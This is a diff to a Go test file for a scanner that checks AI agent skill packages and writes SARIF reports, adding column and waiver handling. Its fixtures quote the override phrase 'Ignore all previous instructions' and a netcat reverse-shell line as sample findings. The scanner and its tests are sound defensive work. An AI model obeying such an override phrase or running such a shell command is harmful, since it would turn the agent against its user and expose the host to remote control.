@@ -32,7 +32,8 @@ func sampleReport() *Report {
 			{
 				Library: "", Path: "solo", URI: "skill://solo/SKILL.md",
 				Findings: []manifest.Finding{
-					{Rule: "prompt-injection", File: "SKILL.md", Line: 7, Severity: "warning", Excerpt: "Ignore all previous instructions"},
+					{Rule: "prompt-injection", File: "SKILL.md", Line: 7, Column: 3, Severity: "error", Excerpt: "Ignore all previous instructions"},
+					{Rule: "reverse-shell", File: "run.sh", Line: 2, Column: 1, Severity: "error", Excerpt: "nc -e /bin/sh h 1", Waived: "lab fixture, reviewed"},
 				},
 			},
 		},
@@ -127,6 +128,17 @@ func decodeSARIF(t *testing.T, b []byte) map[string]any {
 		if n, _ := phys["region"].(map[string]any)["startLine"].(json.Number).Int64(); n < 1 {
 			t.Errorf("result %d: startLine %d", i, n)
 		}
+		if c, ok := phys["region"].(map[string]any)["startColumn"]; ok {
+			if n, _ := c.(json.Number).Int64(); n < 1 {
+				t.Errorf("result %d: startColumn %d", i, n)
+			}
+		}
+		sups, _ := r["suppressions"].([]any)
+		for _, sup := range sups {
+			if k := sup.(map[string]any)["kind"]; k != "external" && k != "inSource" {
+				t.Errorf("result %d: suppression kind %v", i, k)
+			}
+		}
 	}
 	return log
 }
@@ -167,21 +179,36 @@ func TestWriteSARIF(t *testing.T) {
 	if len(ids) != len(Rules)+2 || ids[0] != Rules[0].ID || !slices.Equal(ids[len(Rules):], []string{"description-missing", "name-mismatch"}) {
 		t.Errorf("rules = %v", ids)
 	}
-	type res struct{ rule, level, uri, base string }
+	if run["columnKind"] != "unicodeCodePoints" {
+		t.Errorf("columnKind = %v", run["columnKind"])
+	}
+	type res struct {
+		rule, level, uri, base string
+		col                    int64
+		waived                 string
+	}
 	var got []res
 	for _, r := range run["results"].([]any) {
 		r := r.(map[string]any)
-		art := r["locations"].([]any)[0].(map[string]any)["physicalLocation"].(map[string]any)["artifactLocation"].(map[string]any)
+		phys := r["locations"].([]any)[0].(map[string]any)["physicalLocation"].(map[string]any)
+		art := phys["artifactLocation"].(map[string]any)
 		base, _ := art["uriBaseId"].(string)
-		got = append(got, res{r["ruleId"].(string), r["level"].(string), art["uri"].(string), base})
+		col, _ := phys["region"].(map[string]any)["startColumn"].(json.Number)
+		c, _ := col.Int64()
+		waived := ""
+		if sup, ok := r["suppressions"].([]any); ok {
+			waived = sup[0].(map[string]any)["justification"].(string)
+		}
+		got = append(got, res{r["ruleId"].(string), r["level"].(string), art["uri"].(string), base, c, waived})
 	}
 	want2 := []res{
-		{"world-writable", "warning", "skills/acme/.claude/skills/changelog/SKILL.md", "SRCROOT"},
-		{"description-missing", "error", "skills/acme/billing/invoice/SKILL.md", "SRCROOT"},
-		{"name-mismatch", "error", "skills/acme/billing/invoice/SKILL.md", "SRCROOT"},
-		{"pipe-to-shell", "note", "skills/acme/ops/deploy/SKILL.md", "SRCROOT"},
-		{"destructive-rm", "warning", "skills/acme/ops/deploy/scripts/clean%20up.sh", "SRCROOT"},
-		{"prompt-injection", "warning", "solo/SKILL.md", "SRCROOT"},
+		{"world-writable", "warning", "skills/acme/.claude/skills/changelog/SKILL.md", "SRCROOT", 0, ""},
+		{"description-missing", "error", "skills/acme/billing/invoice/SKILL.md", "SRCROOT", 0, ""},
+		{"name-mismatch", "error", "skills/acme/billing/invoice/SKILL.md", "SRCROOT", 0, ""},
+		{"pipe-to-shell", "note", "skills/acme/ops/deploy/SKILL.md", "SRCROOT", 0, ""},
+		{"destructive-rm", "warning", "skills/acme/ops/deploy/scripts/clean%20up.sh", "SRCROOT", 0, ""},
+		{"prompt-injection", "error", "solo/SKILL.md", "SRCROOT", 3, ""},
+		{"reverse-shell", "error", "solo/run.sh", "SRCROOT", 1, "lab fixture, reviewed"},
 	}
 	if !slices.Equal(got, want2) {
 		t.Errorf("results:\ngot  %v\nwant %v", got, want2)
